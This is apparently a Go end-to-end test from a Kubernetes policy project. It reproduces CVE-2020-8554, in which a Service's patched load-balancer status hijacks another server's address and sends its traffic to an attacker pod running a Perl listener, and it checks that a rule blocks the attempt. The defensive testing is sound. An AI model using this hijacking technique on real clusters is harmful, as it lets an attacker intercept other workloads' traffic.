// Copyright The Bulkhead Authors
// SPDX-License-Identifier: Apache-2.0

package attacks_test

import (
	"context"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"

	"github.com/bulkhead-k8s/bulkhead/e2e/fixtures"
	. "github.com/bulkhead-k8s/bulkhead/e2e/framework"
)

var _ = tell(Story{
	ID: "T14", Title: "A Service takes over the traffic of another server's address",
	Source: "CVE-2020-8554; rbac-police",
	Effect: "kube-proxy on every node believes the status of a Service. The attacker writes the address of somebody " +
		"else's server there, and every node sends its traffic to the attacker's pod.",
	Stops: "No node may write the status of a Service, so no account with services in its scope may.",
	Attempts: []Attempt{{
		Name:   "writing another server's address into the status of a Service",
		Effect: "a client on the other node, which opens that address, gets its answer from the attacker's pod",
		By:     daemon, Rights: mayWriteServices,
		Rule: "NS-SCOPE-1", Text: "[NA-UNI-SERVICES]",
		Prepare: attackersService,
		Attack:  sends(func(r *Run) Request { return withAddress(r).Stored() }),
		Show: func(ctx context.Context, r *Run, _ Answer) {
			Eventually(ctx, visit).WithArguments(r.Victim(), r.Address()).WithTimeout(Soon).WithPolling(time.Second).
				Should(Equal("stolen"))
			r.Say("%s: curl http://%s/ → stolen", r.Victim(), r.Address())
		},
		TwinIs: byOtherAccount, TwinRule: Behind, Twin: byUnscoped(mayWriteServices, withAddress),
		Labels: Label(OnHost),
	}},
})

var mayWriteServices = []rbacv1.PolicyRule{right("", []string{"get", "patch"}, "services", "services/status")}

// withAddress writes the address into the status of the attacker's Service, as a cloud provider does.
func withAddress(r *Run) Request {
	ingress := []any{fields{"ip": r.Address()}}
	return Patch(api.Services).In(r.Namespace(context.Background())).Named(r.Name).Sub("status").
		With(fields{"status": fields{"loadBalancer": fields{"ingress": ingress}}})
}

// answersStolen answers every HTTP request on a port of the node.
const answersStolen = `exec /usr/bin/perl -e 'use IO::Socket::INET;
my $listening = IO::Socket::INET->new(LocalPort => %d, Listen => 8, ReuseAddr => 1) or die $!;
while (my $peer = $listening->accept) {
  while (<$peer>) { last if /^\r?$/ }
  print $peer "HTTP/1.0 200 OK\r\n\r\nstolen"; close $peer;
}'`

// attackersService creates a Service of a pod that the attacker runs. The pod is on the host's network,
// so the story does not depend on the pod network between the nodes.
func attackersService(ctx context.Context, r *Run) {
	GinkgoHelper()
	selected, port := map[string]string{"app": "thief"}, hostPort()
	running(ctx, r.Env.Pod(ctx, r.Attacker(), fixtures.WithShell("shell", fmt.Sprintf(answersStolen, port)),
		func(pod *corev1.Pod) { pod.Labels, pod.Spec.HostNetwork = selected, true }))
	r.Name = "thief"
	r.Put(ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: r.Namespace(ctx), Name: r.Name},
		Spec: corev1.ServiceSpec{
			Type: corev1.ServiceTypeLoadBalancer, AllocateLoadBalancerNodePorts: ptr.To(false), Selector: selected,
			Ports: []corev1.ServicePort{{Port: 80, TargetPort: intstr.FromInt(port)}},
		},
	})
}

// hostPorts is the number of ports of each process of a run.
const hostPorts = 20

// usedPorts counts the ports that this process has used.
var usedPorts int

// hostPort returns a port of a node that no other process of this run uses. This process uses it again
// only after hostPorts others: the listener of the spec before may still be there.
func hostPort() int {
	usedPorts++
	return 20500 + hostPorts*GinkgoParallelProcess() + usedPorts%hostPorts
}

// visit returns what a program on the host of a node reads at an address. It is empty without an
// answer.
func visit(ctx context.Context, node, address string) (string, error) {
	return suite.Host.Run(ctx, node, "curl --silent --max-time 3 http://"+address+"/ || true")
}
